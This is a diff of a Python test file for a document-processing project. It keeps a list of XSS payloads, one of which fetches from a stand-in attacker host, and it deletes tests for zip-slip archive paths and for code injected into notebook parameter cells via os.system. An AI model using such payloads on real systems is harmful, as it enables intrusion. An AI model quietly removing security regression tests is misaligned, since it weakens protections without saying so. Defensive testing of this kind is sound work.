@@ -39,7 +39,6 @@ from escalation.evidence import anchors
 from escalation.page import blocks, references, write
 
 ROOT = Path(__file__).resolve().parent.parent
-MARK = "pwned"
 PAYLOADS = [
     "<script>fetch('https://evil.example/pwned')</script>",
     "<img src=x onerror=alert('pwned')>",
@@ -460,27 +459,6 @@ def test_memory_stays_bounded(shape: str, tmp_path: Path) -> None:
     assert said.stdout.startswith("True "), said.stdout + said.stderr[-600:]
 
 
-@pytest.mark.parametrize(
-    "members",
-    [
-        {"../e.csv": "a"},
-        {"/e.csv": "a"},
-        {"a\\..\\e.csv": "a"},
-        {"C:e.csv": "a"},
-        {"x/e.csv": "a"},
-        {"..": "a"},
-    ],
-)
-def test_zip_slips_are_refused(members: dict[str, str], tmp_path: Path) -> None:
-    """A name inside an archive that is a path is no publisher's doing."""
-    with zipfile.ZipFile(tmp_path / "e.zip", "w") as archive:
-        for name, body in members.items():
-            archive.writestr(name, body)
-    with pytest.raises(Refusal):
-        ucdp.read(tmp_path / "e.zip")
-    assert ["e.zip"] == [path.name for path in tmp_path.iterdir()]
-
-
 def test_a_seed_is_a_file_of_the_project(tmp_path: Path) -> None:
     """A row of documents.csv that names a file elsewhere neither proves nor prints it."""
     outside = tmp_path / "secret.txt"
@@ -534,22 +512,6 @@ def test_what_is_no_notebook_is_refused(text: str, tmp_path: Path) -> None:
         assert {} == parameters.defaults(file)
     except Refusal as refusal:
         assert ["n.ipynb"] == [line.split(":")[0] for line in refusal.problems]
-
-
-def test_code_in_the_parameters_cell_is_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Defaults are read as literals; a notebook that computes them is refused before anything of it runs."""
-    monkeypatch.chdir(tmp_path)
-    for source in (
-        "import os; os.system('touch pwned')",
-        "x = __import__('os').system('touch pwned')",
-        "x = [i for i in range(3)]",
-        "%run pwned.py",
-        "!touch pwned",
-    ):
-        tiny.notebook(tmp_path / "n.ipynb", [tiny.cell(source, tags=("parameters",))], reads=[], writes=[])
-        with pytest.raises(Refusal):
-            parameters.defaults(tmp_path / "n.ipynb")
-    assert ["n.ipynb"] == [path.name for path in tmp_path.iterdir()]
 
 
 # ---- folders that are not what they seem
